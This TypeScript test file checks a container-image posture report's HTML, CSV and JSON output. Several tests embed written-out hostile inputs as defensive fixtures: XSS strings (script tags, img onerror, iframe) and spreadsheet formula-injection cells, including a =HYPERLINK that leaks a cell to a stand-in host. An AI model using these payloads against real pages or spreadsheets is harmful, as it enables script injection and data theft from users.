import { GLOBEX, PAYMENTS, RETAIL, STRANGER } from '../support/accounts.ts';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { after, before, describe, it } from 'node:test';
import { parseConfig } from '../../src/accounts/config.ts';
import { AccountDirectory } from '../../src/accounts/groups.ts';
import { reportCommand } from '../../src/cli/report.ts';
import { RunHistory } from '../../src/report/history.ts';
import { buildPosture, REPORT_SCHEMA, REPORT_SCHEMA_VERSION, UNASSOCIATED, type PostureReport } from '../../src/report/posture.ts';
import { csvField, renderCsv } from '../../src/report/render-csv.ts';
import { escapeHtml, MAX_HTML_FAILING, renderHtml } from '../../src/report/render-html.ts';
import { parseVerdictsFile } from '../../src/report/verdicts-file.ts';
import { VerdictStore, type VerdictRecord } from '../../src/store/verdicts.ts';
import { dumpDom, openPage, screenshot } from '../support/chromium.ts';
import { sigwatch } from '../support/cli.ts';
import { TEST_EPOCH, testNow } from '../support/clock.ts';
import { startDynamo, type TestDynamo } from '../support/dynamodb.ts';

/** Screenshots a person can look at after the run (gitignored). */
const ARTEFACTS = new URL('../artifacts/', import.meta.url).pathname;

const TOPIC = (n: string) => `arn:aws:sns:eu-west-1:999999999999:${n}`;

const CONFIG = `defaults:
  roleName: sigwatch-member
operators:
  topicArn: ${TOPIC('ops')}
groups:
  acme:
    team: platform
    topicArn: ${TOPIC('acme')}
  acme/payments:
    team: payments
  acme/retail:
    team: retail
  globex:
    team: globex-sec
    topicArn: ${TOPIC('globex')}
associations:
  - group: acme/payments
    externalId: {inline: report-test-external-id}
    accounts:
      - id: "${PAYMENTS}"
        regions: [eu-west-1, us-east-1]
  - group: acme/retail
    externalId: {inline: report-test-external-id}
    accounts:
      - id: "${RETAIL}"
        regions: [eu-west-1]
  - group: globex
    externalId: {inline: report-test-external-id}
    accounts:
      - id: "${GLOBEX}"
        regions: [eu-west-1]
securityHub:
  enabled: true
`;

const digest = (n: number) => `sha256:${n.toString(16).padStart(64, '0')}`;
const iso = (daysAgo: number) => new Date(TEST_EPOCH - daysAgo * 86_400_000).toISOString();

function verdict(
  n: number,
  account: string,
  region: string,
  repository: string,
  v: VerdictRecord['verdict'],
  over: Partial<VerdictRecord> = {},
): VerdictRecord {
  return {
    account,
    region,
    repository,
    digest: digest(n),
    verdict: v,
    reasons: v === 'admit' ? [] : [`policy require-signature: ${v} reason ${n}`],
    warnings: v === 'warn' ? ['sbom'] : [],
    time: iso(0),
    since: iso(n % 10),
    policyVersions: {},
    policySetVersion: 'set-1',
    trigger: 'reverify',
    ...over,
  };
}

/** Two groups (acme with two teams, globex), three associated accounts (one in two regions), one unassociated account. */
const VERDICTS: VerdictRecord[] = [
  verdict(1, PAYMENTS, 'eu-west-1', 'payments/api', 'admit'),
  verdict(2, PAYMENTS, 'eu-west-1', 'payments/api', 'deny', { since: iso(9) }),
  verdict(3, PAYMENTS, 'eu-west-1', 'payments/web', 'admit'),
  verdict(4, PAYMENTS, 'us-east-1', 'payments/api', 'error', { reasons: ['registry 111122223333.dkr.ecr.us-east-1.amazonaws.com: timed out after 30s'] }),
  verdict(5, RETAIL, 'eu-west-1', 'retail/shop', 'warn'),
  verdict(6, RETAIL, 'eu-west-1', 'retail/shop', 'admit'),
  verdict(7, RETAIL, 'eu-west-1', 'retail/cart', 'deny', { since: iso(2) }),
  verdict(8, GLOBEX, 'eu-west-1', 'globex/etl', 'admit'),
  verdict(9, GLOBEX, 'eu-west-1', 'globex/etl', 'admit'),
  verdict(10, STRANGER, 'eu-west-1', 'stray/thing', 'deny', { since: iso(1) }),
];

function directory(): AccountDirectory {
  const parsed = parseConfig(CONFIG, { allowInlineExternalId: true });
  assert.ok(parsed.ok, JSON.stringify(!parsed.ok && parsed.problems));
  return new AccountDirectory(parsed.config);
}

describe('posture report: the model', () => {
  it('counts per group → team → account/region → repository, lists failing images worst first then longest failing, and adds this report to the trend', () => {
    const history = [{ runId: 'reverify-1', at: iso(2), counts: { images: 8, admit: 4, deny: 3, warn: 1, error: 0 } }];
    const r = buildPosture(VERDICTS, { directory: directory(), generatedAt: iso(0), runId: 'reverify-2', history });
    assert.equal(r.schema, REPORT_SCHEMA);
    assert.equal(r.schemaVersion, REPORT_SCHEMA_VERSION);
    assert.deepEqual(r.totals, { images: 10, admit: 5, deny: 3, warn: 1, error: 1 });
    assert.deepEqual(
      r.groups.map((g) => [
        g.group,
        g.counts.images,
        g.teams.map((t) => [t.team, t.accounts.map((a) => `${a.account}/${a.region}:${a.repositories.map((x) => x.repository).join('+')}`)]),
      ]),
      [
        [
          'acme',
          7,
          [
            ['payments', [`${PAYMENTS}/eu-west-1:payments/api+payments/web`, `${PAYMENTS}/us-east-1:payments/api`]],
            ['retail', [`${RETAIL}/eu-west-1:retail/cart+retail/shop`]],
          ],
        ],
        ['globex', 2, [['globex-sec', [`${GLOBEX}/eu-west-1:globex/etl`]]]],
        [UNASSOCIATED, 1, [['(no team)', [`${STRANGER}/eu-west-1:stray/thing`]]]],
      ],
    );
    const api = r.groups[0]!.teams[0]!.accounts[0]!.repositories[0]!;
    assert.deepEqual(api.counts, { images: 2, admit: 1, deny: 1, warn: 0, error: 0 });
    // deny (longest failing first), then error, then warn.
    assert.deepEqual(
      r.failing.map((f) => [f.verdict, f.repository, f.since]),
      [
        ['deny', 'payments/api', iso(9)],
        ['deny', 'retail/cart', iso(2)],
        ['deny', 'stray/thing', iso(1)],
        ['error', 'payments/api', iso(4)],
        ['warn', 'retail/shop', iso(5)],
      ],
    );
    assert.deepEqual(
      r.trend.map((p) => [p.runId, p.counts.deny]),
      [
        ['reverify-1', 3],
        ['reverify-2', 3],
      ],
    );
  });

  it('a verdict stored before `since` existed counts as failing since its verification', () => {
    const { since: _s, ...old } = verdict(2, PAYMENTS, 'eu-west-1', 'payments/api', 'deny');
    const r = buildPosture([old], { generatedAt: iso(0) });
    assert.equal(r.failing[0]!.since, old.time);
    assert.equal(r.groups[0]!.group, UNASSOCIATED);
  });
});

describe('posture report: formats', () => {
  const hostileRepo = `team/<script>alert("repo")</script>`;
  const hostileReason = `"><img src=x onerror="alert('reason')"><iframe src="https://example.invalid/"></iframe>`;
  const formula = `=HYPERLINK("https://example.invalid/?leak="&A1,"click")`;
  const hostile: VerdictRecord[] = [
    verdict(1, PAYMENTS, 'eu-west-1', hostileRepo, 'deny', { reasons: [hostileReason, formula, '+SUM(1,2)', '-1+2', '@cmd', 'line one\nline "two", three'] }),
    verdict(2, STRANGER, 'eu-west-1', 'ok/repo', 'admit'),
  ];

  it('HTML: repository names and reasons are text, never markup; no script, no external asset', () => {
    const html = renderHtml(buildPosture(hostile, { generatedAt: iso(0), runId: `run"><b>x</b>` }));
    assert.ok(!/<script/i.test(html), 'no script element');
    assert.ok(!/<img/i.test(html) && !/<iframe/i.test(html), 'no injected element');
    // Every `<` of the page starts one of the page's own tags (text has &lt;): none of them loads anything.
    assert.ok(!/<[^>]*\b(src|href)=/i.test(html), 'no attribute loads anything');
    assert.ok(html.includes(escapeHtml(hostileRepo)));
    assert.ok(html.includes(escapeHtml(hostileReason)));
    assert.ok(html.includes(`content="default-src 'none'; style-src 'unsafe-inline'"`));
    assert.equal(escapeHtml(`<a href="x" title='y'>&</a>`), '&lt;a href=&quot;x&quot; title=&#39;y&#39;&gt;&amp;&lt;/a&gt;');
  });

  it('HTML lists at most MAX_HTML_FAILING failing images and says where the rest are', () => {
    const many = Array.from({ length: MAX_HTML_FAILING + 7 }, (_, i) => verdict(i + 1, PAYMENTS, 'eu-west-1', 'payments/api', 'deny'));
    const html = renderHtml(buildPosture(many, { generatedAt: iso(0) }));
    assert.equal((html.match(/<tr class="failing"/g) ?? []).length, MAX_HTML_FAILING);
    assert.ok(html.includes(`The first ${MAX_HTML_FAILING} are listed here; the JSON and CSV files list all ${MAX_HTML_FAILING + 7}.`));
    assert.equal(
      renderCsv(buildPosture(many, { generatedAt: iso(0) }))
        .split('\r\n')
        .filter(Boolean).length,
      MAX_HTML_FAILING + 8,
    );
  });

  it('CSV: RFC 4180 quoting, CRLF line ends, and cells a spreadsheet would run as formulas neutralised', () => {
    const csv = renderCsv(buildPosture(hostile, { generatedAt: iso(0) }));
    const lines = csv.split('\r\n');
    assert.equal(lines[0], 'group,team,account,region,repository,digest,verdict,since,lastVerified,trigger,reasons');
    assert.ok(csv.endsWith('\r\n'));
    assert.equal(csvField('plain'), 'plain');
    assert.equal(csvField('a,b'), '"a,b"');
    assert.equal(csvField('say "hi"'), '"say ""hi"""');
    assert.equal(csvField('two\nlines'), '"two\nlines"');
    assert.equal(csvField(formula), `"'=HYPERLINK(""https://example.invalid/?leak=""&A1,""click"")"`);
    for (const [cell, safe] of [
      ['+SUM(1,2)', `"'+SUM(1,2)"`],
      ['-1+2', `'-1+2`],
      ['@cmd', `'@cmd`],
      ['\tx', `'\tx`],
      ['\rx', `"'\rx"`],
    ] as const)
      assert.equal(csvField(cell), safe);
    // The one failing row: its reasons cell starts with the hostile reason, which starts with a quote, so it is quoted.
    assert.equal(lines.length, 3);
    assert.ok(lines[1]!.includes(`"team/<script>alert(""repo"")</script>"`));
    // Parsed back as RFC 4180, the row has the 11 columns and every field as written (formulas with their apostrophe).
    const row = parseCsvRow(`${lines[1]!}`);
    assert.equal(row.length, 11);
    assert.equal(row[4], hostileRepo);
    assert.equal(row[10], [hostileReason, formula, '+SUM(1,2)', '-1+2', '@cmd', 'line one\nline "two", three'].join(' | '));
  });

  it('JSON: versioned schema, the same model', () => {
    const r = buildPosture(hostile, { generatedAt: iso(0) });
    const parsed = JSON.parse(JSON.stringify(r)) as PostureReport;
    assert.equal(parsed.schema, 'sigwatch.posture-report');
    assert.equal(parsed.schemaVersion, 1);
    assert.equal(parsed.failing[0]!.repository, hostileRepo);
  });

  it('a verdicts file: a list, {verdicts, runs}, or JSON lines; a bad record is named, not skipped', () => {
    const text = JSON.stringify(VERDICTS);
    assert.equal(parseVerdictsFile(text, 'f.json').verdicts.length, 10);
    assert.equal(parseVerdictsFile(VERDICTS.map((v) => JSON.stringify(v)).join('\n'), 'f.jsonl').verdicts.length, 10);
    const withRuns = parseVerdictsFile(
      JSON.stringify({ verdicts: VERDICTS, runs: [{ runId: 'r1', at: iso(1), counts: { images: 1, admit: 1, deny: 0, warn: 0, error: 0 } }] }),
      'f.json',
    );
    assert.equal(withRuns.runs.length, 1);
    const bad = [...VERDICTS];
    bad[3] = { ...bad[3]!, verdict: 'maybe' as 'admit' };
    assert.throws(
      () => parseVerdictsFile(JSON.stringify({ verdicts: bad }), 'f.json'),
      /f\.json: verdicts\[3\]\.verdict: expected one of admit, deny, warn, error, got "maybe"/,
    );
    assert.throws(
      () => parseVerdictsFile(JSON.stringify([{ ...VERDICTS[0], account: '12' }]), 'f.json'),
      /f\.json: \[0\]\.account: expected a 12-digit AWS account id/,
    );
    assert.throws(
      () => parseVerdictsFile(JSON.stringify(buildPosture(VERDICTS, { generatedAt: iso(0) })), 'r.json'),
      /r\.json: a posture report, not verdicts/,
    );
    assert.throws(() => parseVerdictsFile('{"images": 3}', 'x.json'), /x\.json: expected a list of verdict records/);
    assert.equal(parseVerdictsFile(JSON.stringify(VERDICTS[0]), 'one.jsonl').verdicts.length, 1);
  });
});

describe('posture report: sigwatch report, from a verdict store, through a real browser', () => {
  let dynamo: TestDynamo;
  let table: string;
  let work: string;
  before(async () => {
    dynamo = await startDynamo();
    table = await dynamo.table();
    work = mkdtempSync(join(tmpdir(), 'sigwatch-report-'));
    mkdirSync(ARTEFACTS, { recursive: true });
    writeFileSync(join(work, 'sigwatch.yaml'), CONFIG);
    const store = new VerdictStore(dynamo.client, table, { now: testNow });
    await store.putMany(VERDICTS);
    // An expired verdict (TTL passed, not yet deleted by DynamoDB) is not in the report.
    await new VerdictStore(dynamo.client, table, { now: () => TEST_EPOCH - 40 * 86_400_000 }).put(verdict(99, GLOBEX, 'eu-west-1', 'globex/gone', 'deny'));
    const history = new RunHistory(dynamo.client, table, { now: testNow });
    for (let d = 5; d >= 1; d--)
      await history.record({ runId: `reverify-day-${d}`, at: iso(d), counts: { images: 10, admit: 10 - d, deny: d, warn: 0, error: 0 } });
  });
  after(async () => {
    await dynamo.stop();
    rmSync(work, { recursive: true, force: true });
  });

  it('writes HTML, JSON and CSV and prints their paths; chromium shows the groups, accounts, failing images and trend', async () => {
    const out = join(work, 'out');
    let stdout = '';
    let stderr = '';
    const code = await reportCommand(
      ['--verdicts', `dynamodb://${table}`, '--config', join(work, 'sigwatch.yaml'), '--out', out, '--runs', '4'],
      { stdout: (s) => (stdout += `${s}\n`), stderr: (s) => (stderr += `${s}\n`), now: testNow },
      { dynamo: dynamo.client },
    );
    assert.equal(code, 0, stderr);
    const paths = stdout.trim().split('\n');
    assert.deepEqual(
      paths,
      ['report.html', 'report.json', 'report.csv'].map((f) => join(out, f)),
    );
    for (const p of paths) assert.ok(statSync(p).size > 0, p);
    assert.match(stderr, /10 images \(5 admit, 3 deny, 1 error, 1 warn\), 3 groups/);

    const json = JSON.parse(readFileSync(paths[1]!, 'utf8')) as PostureReport;
    assert.deepEqual(
      json.trend.map((p) => p.runId),
      ['reverify-day-3', 'reverify-day-2', 'reverify-day-1', 'now'],
    );
    assert.equal(readFileSync(paths[2]!, 'utf8').split('\r\n').filter(Boolean).length, 1 + 5);

    const url = pathToFileURL(paths[0]!).href;
    const page = await openPage(url);
    try {
      const seen = await page.evaluate<{
        title: string;
        totals: Record<string, string>;
        groups: string[];
        teams: string[];
        accounts: string[];
        failing: { verdict: string; cells: string[] }[];
        trendPoints: number;
        trendLines: string[];
        scripts: number;
        external: number;
      }>(`(() => ({
        title: document.title,
        totals: Object.fromEntries([...document.querySelectorAll('#totals li')].map((li) => [li.dataset.count, li.querySelector('.n').textContent])),
        groups: [...document.querySelectorAll('#posture tr.group')].map((r) => r.dataset.group),
        teams: [...document.querySelectorAll('#posture tr.team')].map((r) => r.dataset.group + '/' + r.dataset.team),
        accounts: [...new Set([...document.querySelectorAll('#posture tr.repository')].map((r) => r.dataset.account + '/' + r.dataset.region))],
        failing: [...document.querySelectorAll('#failing tr.failing')].map((r) => ({ verdict: r.dataset.verdict, cells: [...r.cells].map((c) => c.textContent) })),
        trendPoints: document.querySelectorAll('#trend circle').length,
        trendLines: [...document.querySelectorAll('#trend polyline')].map((p) => p.dataset.series),
        scripts: document.scripts.length,
        external: document.querySelectorAll('[src],link[href]').length,
      }))()`);
      assert.match(seen.title, /sigwatch posture report/);
      assert.deepEqual(seen.totals, { images: '10', admit: '5', deny: '3', error: '1', warn: '1' });
      assert.deepEqual(seen.groups, ['acme', 'globex', UNASSOCIATED]);
      assert.deepEqual(seen.teams, ['acme/payments', 'acme/retail', 'globex/globex-sec', `${UNASSOCIATED}/(no team)`]);
      assert.deepEqual(seen.accounts, [
        `${PAYMENTS}/eu-west-1`,
        `${PAYMENTS}/us-east-1`,
        `${RETAIL}/eu-west-1`,
        `${GLOBEX}/eu-west-1`,
        `${STRANGER}/eu-west-1`,
      ]);
      assert.deepEqual(
        seen.failing.map((f) => f.verdict),
        ['deny', 'deny', 'deny', 'error', 'warn'],
      );
      const first = seen.failing[0]!.cells;
      assert.deepEqual(first.slice(0, 3), ['deny', 'acme', 'payments']);
      assert.ok(first[4]!.startsWith('payments/api') && first[4]!.includes(digest(2)), first[4]);
      assert.equal(first[5], iso(9));
      assert.equal(first[7], 'policy require-signature: deny reason 2');
      assert.equal(seen.trendPoints, 4 * 4, 'four runs × four series');
      assert.deepEqual(seen.trendLines, ['deny', 'error', 'warn', 'admit']);
      assert.equal(seen.scripts, 0);
      assert.equal(seen.external, 0);
    } finally {
      await page.close();
    }
    // The DOM as chromium serialises it holds the content as the file does: nothing is built by script (the page has none, and its CSP allows none).
    const dom = dumpDom(url);
    assert.ok(dom.includes('payments/api') && dom.includes('Images that do not pass'));
    assert.equal((dom.match(/<tr class="failing"/g) ?? []).length, 5);
    // A blank page's screenshot is the yardstick for "something on it".
    const shot = join(ARTEFACTS, 'report.png');
    screenshot(url, shot);
    writeFileSync(join(work, 'blank.html'), '<!DOCTYPE html><html><body></body></html>');
    const blank = join(work, 'blank.png');
    screenshot(pathToFileURL(join(work, 'blank.html')).href, blank);
    assert.deepEqual([...readFileSync(shot).subarray(0, 8)], [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
    assert.ok(existsSync(shot) && statSync(shot).size > 10 * statSync(blank).size, `report ${statSync(shot).size} bytes, blank page ${statSync(blank).size}`);
  });

  it('hostile repository names and reasons stay text in the browser: no element injected, the text shown as written', async () => {
    const hostileRepo = `team/<img src=x onerror="document.title='pwned'">`;
    const hostileReason = `</td></tr></table><script>document.title='pwned'</script><h1 id="injected">x</h1>`;
    const file = join(work, 'hostile.json');
    writeFileSync(file, JSON.stringify([verdict(1, PAYMENTS, 'eu-west-1', hostileRepo, 'deny', { reasons: [hostileReason] })]));
    const r = await sigwatch('report', '--verdicts', file, '--out', join(work, 'hostile'));
    assert.equal(r.code, 0, r.stderr);
    const html = r.stdout.trim().split('\n')[0]!;
    const page = await openPage(pathToFileURL(html).href);
    try {
      const seen = await page.evaluate<{ title: string; injected: number; scripts: number; images: number; repo: string; reason: string }>(`(() => ({
        title: document.title,
        injected: document.querySelectorAll('#injected').length,
        scripts: document.scripts.length,
        images: document.images.length,
        repo: document.querySelector('#failing tr.failing td:nth-child(5) code').textContent,
        reason: document.querySelector('#failing ul.reasons li').textContent,
      }))()`);
      assert.doesNotMatch(seen.title, /pwned/);
      assert.equal(seen.injected, 0);
      assert.equal(seen.scripts, 0);
      assert.equal(seen.images, 0);
      assert.equal(seen.repo, hostileRepo);
      assert.equal(seen.reason, hostileReason);
    } finally {
      await page.close();
    }
    screenshot(pathToFileURL(html).href, join(ARTEFACTS, 'report-hostile.png'), { width: 1280, height: 800 });
  });

  it('usage and configuration errors exit 2 with a message naming what is wrong', async () => {
    const none = await sigwatch('report', '--out', join(work, 'x'));
    assert.equal(none.code, 2);
    assert.match(none.stderr, /give --verdicts FILE\|dynamodb:\/\/TABLE/);
    const missing = await sigwatch('report', '--verdicts', join(work, 'nope.json'));
    assert.equal(missing.code, 2);
    assert.match(missing.stderr, /nope\.json: cannot read it \(ENOENT\)/);
    writeFileSync(join(work, 'bad.json'), JSON.stringify([{ ...VERDICTS[0], time: 'yesterday' }]));
    const bad = await sigwatch('report', '--verdicts', join(work, 'bad.json'));
    assert.equal(bad.code, 2);
    assert.match(bad.stderr, /bad\.json: \[0\]\.time: expected an RFC 3339 time/);
    const runs = await sigwatch('report', '--verdicts', join(work, 'bad.json'), '--runs', '0');
    assert.equal(runs.code, 2);
    assert.match(runs.stderr, /--runs: expected a whole number from 1 to 1000/);
  });
});

describe('npm run demo', () => {
  it("ends by writing the report of its own verdicts and printing the HTML file's path", () => {
    const cwd = mkdtempSync(join(tmpdir(), 'sigwatch-demo-cwd-'));
    try {
      const out = spawnSync(process.execPath, [new URL('../../scripts/demo.ts', import.meta.url).pathname], { cwd, encoding: 'utf8', timeout: 120_000 });
      assert.equal(out.status, 0, out.stderr);
      const last = out.stdout.trim().split('\n').pop()!;
      assert.equal(last, join(cwd, '.demo', 'report', 'report.html'));
      const html = readFileSync(last, 'utf8');
      assert.match(html, /data-group="acme" data-team="payments" data-account="111122223333"/);
      assert.match(out.stdout, /posture report: 5 images \(1 admit, 4 deny, 0 error, 0 warn\)/);
    } finally {
      rmSync(cwd, { recursive: true, force: true });
    }
  });
});

/** One RFC 4180 record (quoted fields may hold commas, quotes doubled, line breaks). */
function parseCsvRow(line: string): string[] {
  const fields: string[] = [];
  let i = 0;
  while (i <= line.length) {
    if (line[i] === '"') {
      let v = '';
      i++;
      while (i < line.length) {
        if (line[i] === '"' && line[i + 1] === '"') {
          v += '"';
          i += 2;
        } else if (line[i] === '"') {
          i++;
          break;
        } else v += line[i++];
      }
      fields.push(v);
      i++;
    } else {
      const end = line.indexOf(',', i);
      fields.push(line.slice(i, end === -1 ? line.length : end));
      i = end === -1 ? line.length + 1 : end + 1;
    }
  }
  return fields;
}
